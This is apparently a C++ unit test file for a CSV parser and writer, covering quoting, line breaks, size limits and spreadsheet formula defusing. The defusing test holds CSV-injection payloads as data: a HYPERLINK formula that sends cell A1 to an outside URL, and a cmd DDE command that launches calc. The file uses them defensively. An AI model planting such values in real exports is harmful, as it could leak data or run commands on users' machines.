#include "base/csv.h"

#include <doctest/doctest.h>

#include <fstream>
#include <iterator>
#include <string>
#include <vector>

#include "base/encoding.h"

namespace qun::csv {
namespace {

using Fields = std::vector<std::string>;

std::vector<Record> ParseOk(std::string_view text) {
  Result<std::vector<Record>> r = Parse(text);
  REQUIRE_MESSAGE(r.ok(), r.status().message());
  return *r;
}

TEST_CASE("simple records are split on commas and line feeds") {
  const std::vector<Record> rs = ParseOk("name,city\nAnn,London\nBo,Paris\n");
  REQUIRE(rs.size() == 3);
  CHECK(rs[0].fields == Fields{"name", "city"});
  CHECK(rs[1].fields == Fields{"Ann", "London"});
  CHECK(rs[2].fields == Fields{"Bo", "Paris"});
  CHECK(rs[0].line == 1);
  CHECK(rs[1].line == 2);
  CHECK(rs[2].line == 3);
}

TEST_CASE("empty input has no records") {
  CHECK(ParseOk("").empty());
  CHECK(ParseOk("\n\r\n\n").empty());
}

TEST_CASE("CRLF ends a record without leaving a CR in the last field") {
  const std::vector<Record> rs = ParseOk("a,b\r\nc,d\r\n");
  REQUIRE(rs.size() == 2);
  CHECK(rs[0].fields == Fields{"a", "b"});
  CHECK(rs[1].fields == Fields{"c", "d"});
  CHECK(rs[1].line == 2);
}

TEST_CASE("a final record without a line break is kept") {
  const std::vector<Record> rs = ParseOk("a,b\nc,d");
  REQUIRE(rs.size() == 2);
  CHECK(rs[1].fields == Fields{"c", "d"});
  const std::vector<Record> quoted = ParseOk("a,\"b,c\"");
  REQUIRE(quoted.size() == 1);
  CHECK(quoted[0].fields == Fields{"a", "b,c"});
}

TEST_CASE("blank lines are skipped but counted") {
  const std::vector<Record> rs = ParseOk("\na,b\n\n\r\nc,d\n\n");
  REQUIRE(rs.size() == 2);
  CHECK(rs[0].line == 2);
  CHECK(rs[1].fields == Fields{"c", "d"});
  CHECK(rs[1].line == 5);
}

TEST_CASE("empty fields and a trailing empty field are kept") {
  const std::vector<Record> rs = ParseOk(",,\na,,b\nc,\n");
  REQUIRE(rs.size() == 3);
  CHECK(rs[0].fields == Fields{"", "", ""});
  CHECK(rs[1].fields == Fields{"a", "", "b"});
  CHECK(rs[2].fields == Fields{"c", ""});
  CHECK(ParseOk("x,")[0].fields == Fields{"x", ""});
}

TEST_CASE("quoted fields hold commas and doubled quotes") {
  const std::vector<Record> rs = ParseOk("\"Smith, Ann\",\"say \"\"hi\"\"\",\"\"\n");
  REQUIRE(rs.size() == 1);
  CHECK(rs[0].fields == Fields{"Smith, Ann", "say \"hi\"", ""});
}

TEST_CASE("quoted fields hold LF and CRLF line breaks and later lines account for them") {
  const std::string text =
      "name,intro\r\n"
      "Ann,\"line one\nline two\"\r\n"
      "Bo,\"first\r\nsecond\r\nthird\"\r\n"
      "Cy,plain\r\n";
  const std::vector<Record> rs = ParseOk(text);
  REQUIRE(rs.size() == 4);
  CHECK(rs[1].fields == Fields{"Ann", "line one\nline two"});
  CHECK(rs[2].fields == Fields{"Bo", "first\r\nsecond\r\nthird"});
  CHECK(rs[0].line == 1);
  CHECK(rs[1].line == 2);  // where the record starts, not where it ends
  CHECK(rs[2].line == 4);
  CHECK(rs[3].line == 7);
}

TEST_CASE("a bare quote inside an unquoted field is kept literally") {
  const std::vector<Record> rs = ParseOk("5'11\",ab\"c\n");
  REQUIRE(rs.size() == 1);
  CHECK(rs[0].fields == Fields{"5'11\"", "ab\"c"});
}

TEST_CASE("a lone CR ends a record, as Excel for Mac writes CSV") {
  auto records = ParseOk("display_name,city\rA,B\r\rC,\"x\ry\"\r");
  REQUIRE(records.size() == 3);
  CHECK(records[1].fields == Fields{"A", "B"});
  CHECK(records[1].line == 2);
  CHECK(records[2].fields == Fields{"C", "x\ry"});  // inside quotes it is kept
  CHECK(records[2].line == 4);
}

TEST_CASE("an unclosed quote is an error naming the line where it opens") {
  Result<std::vector<Record>> r = Parse("name,intro\nAnn,ok\nBo,\"never closed\nmore\n");
  REQUIRE_FALSE(r.ok());
  CHECK(r.status().code() == Status::Code::kInvalidArgument);
  CHECK(r.status().message().find("line 3") != std::string::npos);
  CHECK(r.status().message().find("never closed") != std::string::npos);
}

TEST_CASE("text after a closing quote is an error naming the line") {
  Result<std::vector<Record>> r = Parse("a,b\n\"ab\"c,d\n");
  REQUIRE_FALSE(r.ok());
  CHECK(r.status().code() == Status::Code::kInvalidArgument);
  CHECK(r.status().message().find("line 2") != std::string::npos);
  CHECK(r.status().message().find("field 1") != std::string::npos);
}

TEST_CASE("EscapeField quotes only when needed and doubles inner quotes") {
  CHECK(EscapeField("Ann") == "Ann");
  CHECK(EscapeField("") == "");
  CHECK(EscapeField("张伟") == "张伟");
  CHECK(EscapeField("a,b") == "\"a,b\"");
  CHECK(EscapeField("say \"hi\"") == "\"say \"\"hi\"\"\"");
  CHECK(EscapeField("a\nb") == "\"a\nb\"");
  CHECK(EscapeField("a\rb") == "\"a\rb\"");
  CHECK(EscapeField(" lead") == "\" lead\"");
  CHECK(EscapeField("trail ") == "\"trail \"");
}

TEST_CASE("FormatRecord ends records with CRLF") {
  CHECK(FormatRecord({"a", "b,c", ""}) == "a,\"b,c\",\r\n");
}

TEST_CASE("FormatRecord and Parse round-trip tricky values") {
  const std::vector<Fields> records = {
      {"display_name", "intro", "city"},
      {"Smith, Ann", "she said \"hi\"", " leading space"},
      {"张伟", "第一行\n第二行", "北京，朝阳"},
      {"", "\"", "trailing space "},
      {"crlf\r\ninside", ",", "\"\""},
      {""},  // one empty field must not become a blank line
      {"last", "", ""},
  };
  std::string text;
  for (const Fields& f : records) text += FormatRecord(f);
  const std::vector<Record> parsed = ParseOk(text);
  REQUIRE(parsed.size() == records.size());
  for (size_t i = 0; i < records.size(); ++i) {
    CAPTURE(i);
    CHECK(parsed[i].fields == records[i]);
  }
}

TEST_CASE("cells a spreadsheet would run as formulas are defused with an apostrophe") {
  CHECK(DefuseFormula("=HYPERLINK(\"http://x/?\"&A1,\"c\")") ==
        "'=HYPERLINK(\"http://x/?\"&A1,\"c\")");
  CHECK(DefuseFormula("+cmd|' /C calc'!A0") == "'+cmd|' /C calc'!A0");
  CHECK(DefuseFormula("-2+3") == "'-2+3");
  CHECK(DefuseFormula("@SUM(1+1)") == "'@SUM(1+1)");
  CHECK(DefuseFormula("\t=tab") == "'\t=tab");
  CHECK(DefuseFormula("\r=cr") == "'\r=cr");
  CHECK(DefuseFormula("+8613800000001") == "'+8613800000001");  // a phone: kept as text
  // An apostrophe that RestoreFormula would take away is itself defused.
  CHECK(DefuseFormula("'=1") == "''=1");
  CHECK(DefuseFormula("''") == "'''");
  // Everything else is as it was.
  for (std::string_view v : {"", "张伟", "a=b", " =1", "'", "'quoted'", "O'Brien", "1-2"})
    CHECK(DefuseFormula(v) == v);
}

TEST_CASE("RestoreFormula undoes DefuseFormula exactly, for every value") {
  const std::vector<std::string> values = {"",
                                           "'",
                                           "''",
                                           "'''",
                                           "=",
                                           "'=",
                                           "''=",
                                           "=1+1",
                                           "'=1+1",
                                           "-",
                                           "-2",
                                           "+",
                                           "@",
                                           "\t",
                                           "\r",
                                           "\t=tab",
                                           "'\t",
                                           "'a",
                                           "a'",
                                           "张伟",
                                           "'张伟",
                                           "O'Brien",
                                           "+86 138 0000 0001"};
  for (const std::string& v : values) {
    CAPTURE(v);
    CHECK(RestoreFormula(DefuseFormula(v)) == v);
    // And through a CSV record, as an export and an import do.
    Result<std::vector<Record>> parsed = Parse(FormatRecord({DefuseFormula(v), "x"}));
    REQUIRE(parsed.ok());
    REQUIRE(parsed->size() == 1);
    CHECK(RestoreFormula((*parsed)[0].fields[0]) == v);
  }
}

TEST_CASE("a field longer than the limit stops the parse with its line") {
  ParseOptions small;
  small.max_field_bytes = 1024;
  CHECK(Parse("a,b\n" + std::string(1024, 'x') + ",c\n", small).ok());
  Result<std::vector<Record>> unquoted = Parse("a,b\nc," + std::string(1025, 'x') + "\n", small);
  REQUIRE_FALSE(unquoted.ok());
  CHECK(unquoted.status().code() == Status::Code::kInvalidArgument);
  CHECK(unquoted.status().message().find("line 2: field 2 is longer than 1 KiB") == 0);
  // A quote never closed is caught at the limit, not at the end of the file.
  Result<std::vector<Record>> quoted =
      Parse("a,b\nc,d\n\"" + std::string(5000, 'x') + "\n" + std::string(5000, 'y'), small);
  REQUIRE_FALSE(quoted.ok());
  CHECK(quoted.status().message().find("line 3: field 1 is longer than 1 KiB") == 0);
}

TEST_CASE("the default field limit is 1 MiB") {
  CHECK(kMaxFieldBytes == 1u << 20);
  Result<std::vector<Record>> big = Parse("name\n" + std::string((1u << 20) + 1, 'x'));
  REQUIRE_FALSE(big.ok());
  CHECK(big.status().message().find("line 2: field 1 is longer than 1 MiB") == 0);
}

TEST_CASE("the sample members file parses into a header and 240 records") {
  std::ifstream in(QUN_TEST_DATA "/members-sample.csv", std::ios::binary);
  REQUIRE(in.good());
  const std::string bytes((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
  Result<encoding::Decoded> decoded = encoding::DecodeAuto(bytes);
  REQUIRE(decoded.ok());
  CHECK(decoded->detected == encoding::Encoding::kUtf8Bom);

  const std::vector<Record> rs = ParseOk(decoded->utf8);
  REQUIRE(rs.size() == 241);
  REQUIRE_FALSE(rs[0].fields.empty());
  CHECK(rs[0].fields[0] == "display_name");
  CHECK(rs[0].line == 1);
  const size_t columns = rs[0].fields.size();
  for (const Record& r : rs) {
    CAPTURE(r.line);
    CHECK(r.fields.size() == columns);
  }
  CHECK(rs.back().line > 241);  // some intros span several lines
}

}  // namespace
}  // namespace qun::csv
